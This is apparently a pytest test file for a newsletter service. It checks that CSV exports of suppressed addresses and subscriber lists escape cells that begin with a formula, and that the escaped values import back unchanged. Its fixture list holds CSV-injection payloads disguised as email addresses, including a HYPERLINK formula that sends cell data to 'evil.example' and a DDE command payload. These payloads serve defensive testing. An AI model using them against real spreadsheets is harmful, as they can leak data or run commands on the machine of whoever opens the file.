"""Hardening of issue 13: a CSV export never hands a spreadsheet a formula (OWASP CSV Injection).

A hostile reader signs up with an address that is a formula (``=``, ``+``, ``-`` are legal at
the start of a local part, RFC 5322 §3.2.3) and gets suppressed; the operator exports the
suppressions with the CLI and opens the file. Then the file is imported back unchanged.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from worker.cli import main
from worker.models import Suppression
from worker.runtime import Runtime
from worker.safety.csv_cells import FORMULA_STARTS, read_cell, write_cell
from worker.subscriptions.suppressions import suppress

HOSTILE = [
    '=hyperlink("https://evil.example/?"&a1)@example.org',
    "=cmd|'/c calc'!a0@example.org",
    "+447700900123@example.org",
    "-2+3@example.org",
    "@sum(1+1)@example.org",
    "'=already-quoted@example.org",
    "anna@example.org",
]


def _env(rt: Runtime, db_url: str) -> dict[str, str]:
    return {"NEWSLETTER_DATABASE_URL": db_url, "NEWSLETTER_SECRET_KEY": rt.settings.secret_key}


def test_exported_cells_never_start_a_formula_and_import_back(
    rt: Runtime, db_url: str, tmp_path: Path
) -> None:
    # Given suppressed addresses that are formulas
    with rt.session() as session:
        for address in HOSTILE:
            suppress(
                session,
                dedupe_key=address,
                hash_key=rt.settings.secret_key,
                reason="manual",
                now=rt.clock.now(),
            )
    # When the operator exports them
    target = tmp_path / "suppressions.csv"
    exported = CliRunner().invoke(
        main, ["suppressions", "export", str(target)], env=_env(rt, db_url)
    )
    assert exported.exit_code == 0, exported.output
    with target.open(newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    # Then no cell starts as a formula would, and the addresses are there, quoted
    cells = [cell for row in rows[1:] for cell in row]
    assert [c for c in cells if c.startswith(FORMULA_STARTS)] == []
    emails = [row[0] for row in rows[1:]]
    assert "'=cmd|'/c calc'!a0@example.org" in emails and "anna@example.org" in emails
    assert "''=already-quoted@example.org" in emails
    # And importing the file back (after lifting them) restores exactly the same addresses
    with rt.session() as session:
        session.query(Suppression).delete()
    imported = CliRunner().invoke(
        main, ["suppressions", "import", str(target)], env=_env(rt, db_url)
    )
    assert imported.exit_code == 0, imported.output
    with rt.session() as session:
        assert sorted(s.email or "" for s in session.query(Suppression)) == sorted(HOSTILE)


@pytest.mark.parametrize("start", [*FORMULA_STARTS, "'"])
def test_each_formula_start_is_escaped(start: str) -> None:
    assert write_cell(start + "x") == "'" + start + "x"
    assert read_cell(write_cell(start + "x")) == start + "x"


@given(st.text())
def test_read_cell_undoes_write_cell(value: str) -> None:
    written = write_cell(value)
    assert not written.startswith(FORMULA_STARTS)
    assert read_cell(written) == value


def test_the_subscriber_list_csv_escapes_formulas(rt: Runtime, db_url: str, tmp_path: Path) -> None:
    # Given readers imported from a list whose addresses are formulas
    source = tmp_path / "readers.csv"
    source.write_text(
        "email,language,status\n"
        + "".join(f'"{a}",en,confirmed\n' for a in ("=1+2@example.org", "-3+4@example.org")),
        encoding="utf-8",
    )
    env = {
        **_env(rt, db_url),
        "NEWSLETTER_REDIS_URL": rt.settings.redis_url,
        "NEWSLETTER_NEWSLETTER_PATH": rt.settings.newsletter_path,
    }
    imported = CliRunner().invoke(
        main, ["subscribers", "import", str(source), "--format", "csv"], env=env
    )
    assert imported.exit_code == 0, imported.output
    # When the operator lists them as CSV, and counts them by domain
    listed = CliRunner().invoke(main, ["subscribers", "list", "--csv", "--all"], env=env)
    counted = CliRunner().invoke(main, ["subscribers", "count", "--by", "status", "--csv"], env=env)
    assert listed.exit_code == 0 and counted.exit_code == 0, listed.output
    # Then the addresses are there, and no cell starts a formula
    rows = list(csv.reader(listed.stdout.splitlines()))
    assert sorted(row[0] for row in rows[1:]) == ["'-3+4@example.org", "'=1+2@example.org"]
    cells = [c for row in rows + list(csv.reader(counted.stdout.splitlines())) for c in row]
    assert [c for c in cells if c.startswith(FORMULA_STARTS)] == []
